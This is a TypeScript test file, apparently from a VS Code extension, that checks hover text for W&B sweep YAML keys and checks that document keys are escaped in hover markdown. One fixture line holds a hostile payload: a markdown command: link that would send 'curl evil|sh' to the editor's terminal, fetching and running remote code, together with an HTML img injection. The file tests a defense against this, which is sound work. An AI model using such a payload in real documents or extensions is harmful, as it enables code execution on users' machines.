// Hovers come from the zod descriptions, also under a W&B sweep's `parameters:` (a recursive, lazy schema), and
// what the document wrote (its keys) reaches the hover's markdown escaped: a key shaped like a `command:` link
// is shown as text. The oracle for "a link" is markdown-it, a CommonMark renderer like the one VS Code's hovers use.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { hoverAt } from '../../../src/core/config/hover';

type MarkdownIt = { render(src: string): string };
const markdownIt = (createRequire(__filename)('markdown-it') as (o: object) => MarkdownIt)({ html: true, linkify: true });

const SWEEP = [
  'program: train.py',
  'method: bayes',
  'metric:',
  '  name: eval/loss',
  'parameters:',
  '  learning_rate:',
  '    distribution: log_uniform_values',
  '    min: 0.00001',
  '    max: 0.001',
  '  optimizer:',
  '    parameters:',
  '      beta1:',
  '        values: [0.9, 0.95]',
  '',
].join('\n');

test('hovers under a sweep’s parameters: render, nested parameters too', () => {
  // The offset of the needle's first letter, plus one: on the key.
  const at = (needle: string): ReturnType<typeof hoverAt> => hoverAt(SWEEP, 'sweep.yaml', SWEEP.indexOf(needle) + needle.search(/\S/) + 1, 'sweep');
  assert.match(at('    min:')?.markdown ?? 'no hover', /Lower bound/);
  assert.match(at('distribution')?.markdown ?? 'no hover', /How values are drawn[\s\S]*Allowed: .*`log_uniform_values`/);
  assert.match(at('        values')?.markdown ?? 'no hover', /Discrete values/);
  assert.match(at('method')?.markdown ?? 'no hover', /Search method/, 'top-level keys still do');
});

test('a document key in a hover is escaped: a command: link, HTML or emphasis in it renders as text', () => {
  const key = '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
  const doc = `program: train.py\nmethod: random\nparameters:\n  "${key}<img src=x>**b**":\n    min: 1\n`;
  const h = hoverAt(doc, 'sweep.yaml', doc.indexOf('    min:') + 5, 'sweep');
  assert.ok(h, 'the hover renders');
  const html = markdownIt.render(h.markdown);
  assert.doesNotMatch(html, /<a |<img|<strong>b/, html);
  assert.ok(html.includes('[x](command:workbench.action.terminal.sendSequence'), `the key is shown as written: ${html}`);
});
